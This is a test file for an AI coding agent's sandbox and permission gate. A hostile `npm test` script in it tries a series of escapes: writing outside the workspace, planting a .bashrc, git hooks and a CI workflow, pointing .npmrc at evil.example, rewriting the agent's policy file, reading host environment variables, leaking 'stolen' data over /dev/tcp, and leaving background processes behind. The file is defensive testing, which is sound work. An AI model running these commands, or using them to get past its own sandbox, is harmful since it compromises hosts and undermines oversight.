/**
 * Issue 13's scenario, in-process through prepareSession with real bubblewrap: under
 * `Bash(npm test:*)` a hostile `test` script tries every escape. The gate allows the call (it is
 * `npm test`); the sandbox is what stops each attempt. Effects are checked on the host: files on
 * disk, a loopback listener, the host's /proc.
 */
import { existsSync, readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { endTurn, reply, toolUse } from '../support/scripted-model.js';
import { connectScript, git, makeWorld, processesMatching, runScriptedSession, startTcpListener, type Listener, type SandboxWorld } from '../support/sandbox-fixtures.js';

let world: SandboxWorld;
let listener: Listener;
beforeEach(async () => {
  world = makeWorld();
  listener = await startTcpListener();
});
afterEach(async () => {
  await listener.close();
  world.cleanup();
});

const POLICY = 'permissions:\n  allow: ["Bash(npm test:*)"]\n';

function hostileTestScript(world: SandboxWorld, port: number, marker: string): string {
  const outside = join(world.root, 'outside-pwned.txt');
  return `#!/bin/bash
# The legitimate work: read the sources, write a build output inside the workspace.
cat src/index.js
mkdir -p build && echo built > build/out.txt && echo legit-write-ok
# The escapes, each of which must fail.
echo pwned > ${outside} && echo ESCAPE outside-write
echo pwned > "$HOME/.bashrc" && echo ESCAPE home-dotfile
printf '#!/bin/sh\\necho hooked\\n' > .git/hooks/pre-commit && echo ESCAPE git-hook
mkdir -p .github/workflows && echo 'on: push' > .github/workflows/evil.yml && echo ESCAPE workflow
echo 'registry=http://evil.example/' > .npmrc && echo ESCAPE npmrc
mkdir -p .github; echo 'permissions: {allow: [Bash]}' > .github/tollgate.yml && echo ESCAPE policy-file
git config core.hooksPath /tmp && echo ESCAPE git-config
cat /proc/${process.pid}/environ > /dev/null && echo ESCAPE tollgate-environ
echo "visible pids: $(ls /proc | grep -c '^[0-9]')"
(echo leak > /dev/tcp/127.0.0.1/${port}) 2>/dev/null && echo ESCAPE dev-tcp
node connect.js
setsid sleep ${marker} > /dev/null 2>&1 < /dev/null &
nohup sleep ${marker} > /dev/null 2>&1 &
echo background-started
exit 0
`;
}

describe('a hostile npm test script under Bash(npm test:*)', () => {
  it('fails at every escape while its legitimate work succeeds', async () => {
    const marker = `${Math.floor(900000 + Math.random() * 99999)}`;
    const files = {
      'package.json': JSON.stringify({ name: 'victim', version: '1.0.0', scripts: { test: 'bash escape.sh' } }),
      'escape.sh': hostileTestScript(world, listener.port, marker),
      'connect.js': connectScript(listener.port, 'stolen'),
    };
    world.cleanup();
    world = makeWorld(files);
    const hooksBefore = readdirSync(join(world.workspace, '.git', 'hooks')).sort();
    const configBefore = readFileSync(join(world.workspace, '.git', 'config'), 'utf8');
    // CI=true as on GitHub's runners (npm then skips its update check, which would be refused too).
    const run = await runScriptedSession(world, POLICY, [reply(toolUse('Bash', { command: 'npm test' }, 'toolu_npm')), endTurn('Tests ran.')], { CI: 'true' });

    expect(run.result.sandbox?.enabled).toBe(true);
    const output = run.toolResults[0] ?? '';
    // The legitimate work.
    expect(output).toContain('export const answer = 42;');
    expect(output).toContain('legit-write-ok');
    expect(readFileSync(join(world.workspace, 'build', 'out.txt'), 'utf8')).toBe('built\n');
    // Not one escape printed success...
    expect(output).not.toContain('ESCAPE');
    expect(output).toContain('background-started');
    // ...and none had an effect on the host.
    expect(existsSync(join(world.root, 'outside-pwned.txt'))).toBe(false);
    expect(existsSync(join(world.home, '.bashrc'))).toBe(false);
    expect(existsSync(join(world.workspace, '.git', 'hooks', 'pre-commit'))).toBe(false);
    expect(readdirSync(join(world.workspace, '.git', 'hooks')).sort()).toEqual(hooksBefore);
    expect(readFileSync(join(world.workspace, '.git', 'config'), 'utf8')).toBe(configBefore);
    expect(existsSync(join(world.workspace, '.github', 'workflows', 'evil.yml'))).toBe(false);
    expect(existsSync(join(world.workspace, '.npmrc'))).toBe(false);
    expect(existsSync(join(world.workspace, '.github', 'tollgate.yml'))).toBe(false);
    expect(listener.hits()).toBe(0);
    expect(listener.received()).toBe('');
    // The host's processes are invisible: only the sandbox's own few are.
    expect(Number(/visible pids: (\d+)/.exec(output)?.[1])).toBeLessThan(20);
    // Nothing outlives the call.
    expect(processesMatching(`sleep ${marker}`)).toEqual([]);
    // The mount points of protected paths that did not exist are gone, and the tree is as the script left it.
    expect(git(world.workspace, 'status', '--porcelain', '--untracked-files=all').trim().split('\n').sort()).toEqual(['?? build/out.txt']);
    // The connection the proxy refused is a denial row with the line that would permit it, and the model was told.
    const network = run.result.denials.filter((denial) => denial.kind === 'network');
    expect(network).toEqual([
      expect.objectContaining({ toolUseId: 'toolu_npm', toolName: 'Bash', suggestedRule: 'sandbox.network.allowedDomains: [127.0.0.1]' }),
    ]);
    expect(network[0]?.reason).toContain(`127.0.0.1:${listener.port}`);
    expect(output).toContain('Network access was refused');
    expect(output).toContain(`127.0.0.1:${listener.port}`);
  });
});
